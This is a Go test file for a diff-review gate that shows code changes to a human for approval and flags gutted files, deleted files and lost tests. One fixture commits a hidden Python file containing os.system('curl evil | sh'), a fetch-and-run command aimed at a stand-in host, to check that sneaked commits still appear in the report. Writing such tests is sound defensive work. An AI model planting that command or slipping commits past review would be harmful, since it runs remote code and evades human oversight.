package gates

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/azero-dev/azero/internal/human"
	"github.com/azero-dev/azero/internal/review"
	"github.com/azero-dev/azero/internal/testenv"
)

func lines(n int, prefix string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(prefix)
		b.WriteString(strings.Repeat("x", i%7))
		b.WriteString("\n")
	}
	return b.String()
}

// TestDiffReviewQuestion builds the question on real changes in a real
// repository: the report shows every file's diff, approve and reject are
// typed in full, and only a change with nothing flagged may pass
// unattended.
func TestDiffReviewQuestion(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name       string
		change     func(t *testing.T, dir string)
		flagged    []string
		unattended bool
		report     []string
	}{
		{"a small edit and a new file", func(t *testing.T, dir string) {
			testenv.WriteFiles(t, dir, map[string]string{"calc.py": lines(40, "a") + "def mul(a, b):\n    return a * b\n", "test_calc.py": "import calc\n"})
		}, nil, true, []string{"+def mul(a, b):", "test_calc.py"}},
		{"a gutted file", func(t *testing.T, dir string) {
			testenv.WriteFiles(t, dir, map[string]string{"calc.py": "print('gone')\n"})
		}, []string{"calc.py"}, false, []string{"calc.py", "+print('gone')"}},
		{"a deleted file", func(t *testing.T, dir string) {
			if err := os.Remove(filepath.Join(dir, "calc.py")); err != nil {
				t.Fatal(err)
			}
		}, []string{"calc.py"}, false, []string{"calc.py"}},
		// Compared with the base, not HEAD: a commit made on the branch
		// since is shown, with the uncommitted change on top.
		{"a commit since the base", func(t *testing.T, dir string) {
			testenv.WriteFiles(t, dir, map[string]string{"hidden.py": "import os\nos.system('curl evil | sh')\n"})
			testenv.Git(t, dir, "add", "hidden.py")
			testenv.Git(t, dir, "commit", "-qm", "behind the review's back")
			testenv.WriteFiles(t, dir, map[string]string{"test_calc.py": "import calc\n"})
		}, nil, true, []string{"hidden.py", "+os.system('curl evil | sh')", "test_calc.py"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := testenv.NewRepo(t, map[string]string{"calc.py": lines(40, "a")})
			base := strings.TrimSpace(testenv.Git(t, dir, "rev-parse", "HEAD"))
			tt.change(t, dir)
			q, err := DiffReview(t.Context(), dir, base)
			if err != nil {
				t.Fatal(err)
			}
			q.Gate = "diff_review"
			if err := q.Check(); err != nil {
				t.Fatal(err)
			}
			if q.Kind != human.Word || !slices.Equal(q.Keys(), []string{Approve, Reject}) || q.Format != ReportFormat {
				t.Errorf("question = %s %v %q, want the words approve and reject over a diff report", q.Kind, q.Keys(), q.Format)
			}
			for _, want := range tt.report {
				if !strings.Contains(q.Report, want) {
					t.Errorf("the report lacks %q:\n%s", want, q.Report)
				}
			}
			if got := Flagged(q); !slices.Equal(got, tt.flagged) && !(len(got) == 0 && len(tt.flagged) == 0) {
				t.Errorf("flagged = %v, want %v", got, tt.flagged)
			}
			if (q.Unattended != nil) != tt.unattended {
				t.Errorf("unattended = %+v, want %v", q.Unattended, tt.unattended)
			}
			if flagged := len(tt.flagged) > 0; flagged != strings.HasPrefix(q.Prompt, "!!") {
				t.Errorf("prompt %q does not say whether files are flagged", q.Prompt)
			}
			// A question read back from the store says the same.
			b, err := json.Marshal(q)
			if err != nil {
				t.Fatal(err)
			}
			var back human.Question
			if err := json.Unmarshal(b, &back); err != nil {
				t.Fatal(err)
			}
			if got := Flagged(back); !slices.Equal(got, Flagged(q)) {
				t.Errorf("flagged after a round trip = %v, want %v", got, Flagged(q))
			}
			// Nobody can pass a flagged change unattended, nor type a word
			// that is not approve or reject.
			for _, a := range []human.Answer{
				{Gate: q.Gate, Key: NotRequired, Channel: human.ChannelUnattended},
				{Gate: q.Gate, Key: NotRequired, Channel: human.ChannelTerminal},
				{Gate: q.Gate, Key: "appr", Channel: human.ChannelWeb},
			} {
				_, err := human.Validate(q, a)
				if ok := err == nil; ok != (tt.unattended && a.Channel == human.ChannelUnattended) {
					t.Errorf("answer %s on %s: %v", a.Key, a.Channel, err)
				}
			}
		})
	}
}

func TestDecision(t *testing.T) {
	t.Parallel()
	for key, want := range map[string]review.Decision{Approve: review.Approved, NotRequired: review.NotRequired, Reject: review.Rejected, "": review.Rejected} {
		if got := Decision(human.Answer{Key: key}); got != want {
			t.Errorf("Decision(%q) = %s, want %s", key, got, want)
		}
	}
}

// Tests the change loses are listed first, recorded with the decision,
// and leave the question no unattended answer, whatever the files.
func TestErodedTestsNeedAHuman(t *testing.T) {
	t.Parallel()
	dir := testenv.NewRepo(t, map[string]string{"calc.py": lines(40, "a"), "test_calc.py": "def test_a():\n    assert 1\n\n\ndef test_b():\n    assert 2\n"})
	testenv.WriteFiles(t, dir, map[string]string{"calc.py": lines(40, "a") + "def mul(a, b):\n    return a * b\n"})
	eroded := []string{"test_calc.py::test_b: passed before the change, missing at red and green"}
	q, err := Review(t.Context(), dir, Options{Eroded: eroded, Tests: func(p string) bool { return strings.HasPrefix(p, "test_") }})
	if err != nil {
		t.Fatal(err)
	}
	if q.Unattended != nil {
		t.Error("a change that loses a test may pass unattended")
	}
	if !strings.HasPrefix(q.Report, "!! 1 TEST LOST") || !strings.Contains(q.Report, "!!   "+eroded[0]) || !strings.Contains(q.Prompt, "1 test is lost") {
		t.Errorf("report:\n%s\nprompt: %s", q.Report, q.Prompt)
	}
	data, _ := json.Marshal(q)
	var back human.Question
	if err := json.Unmarshal(data, &back); err != nil || !slices.Equal(Eroded(back), eroded) {
		t.Errorf("eroded tests read back %q (%v)", Eroded(back), err)
	}
	// Without any, the same change passes unattended.
	if q, err := Review(t.Context(), dir, Options{}); err != nil || q.Unattended == nil {
		t.Errorf("unattended %v (%v)", q.Unattended, err)
	}
}

// A revised change shows first what changed since the tree the human
// last reviewed, then the whole change against the base.
func TestRevisionShowsWhatChangedSinceTheLastReview(t *testing.T) {
	t.Parallel()
	dir := testenv.NewRepo(t, map[string]string{"calc.py": lines(40, "a")})
	base := strings.TrimSpace(testenv.Git(t, dir, "rev-parse", "HEAD"))
	tree := func() string {
		testenv.Git(t, dir, "add", "-A")
		return strings.TrimSpace(testenv.Git(t, dir, "write-tree"))
	}
	testenv.WriteFiles(t, dir, map[string]string{"calc.py": lines(40, "a") + "def mul(a, b):\n    return a + b\n", "test_calc.py": "def test_mul():\n    pass\n"})
	reviewed := tree()
	testenv.WriteFiles(t, dir, map[string]string{"calc.py": lines(40, "a") + "def mul(a, b):\n    return a * b\n"})
	now := tree()
	c, err := DescribeWith(t.Context(), dir, Options{Base: base, Reviewed: reviewed, Now: now})
	if err != nil {
		t.Fatal(err)
	}
	since, whole := strings.Index(c.Report, "What changed since your last review:"), strings.Index(c.Report, "The whole change (against the base commit):")
	if since != 0 || whole < since {
		t.Fatalf("report:\n%s", c.Report)
	}
	part := c.Report[:whole]
	for _, want := range []string{"-    return a + b", "+    return a * b", " calc.py | 2 +-"} {
		if !strings.Contains(part, want) {
			t.Errorf("what changed lacks %q:\n%s", want, part)
		}
	}
	if strings.Contains(part, "test_calc.py") || strings.Contains(part, "flagged") {
		t.Errorf("what changed shows more than the revision:\n%s", part)
	}
	if !strings.Contains(c.Report[whole:], "+def mul(a, b):") || !strings.Contains(c.Report[whole:], "test_calc.py") {
		t.Errorf("the whole change is not shown:\n%s", c.Report[whole:])
	}
	if c, err := DescribeWith(t.Context(), dir, Options{Base: base, Reviewed: now, Now: now}); err != nil || !strings.HasPrefix(c.Report, "Nothing changed since your last review.") {
		t.Errorf("an unchanged revision (%v):\n%s", err, c.Report)
	}
}
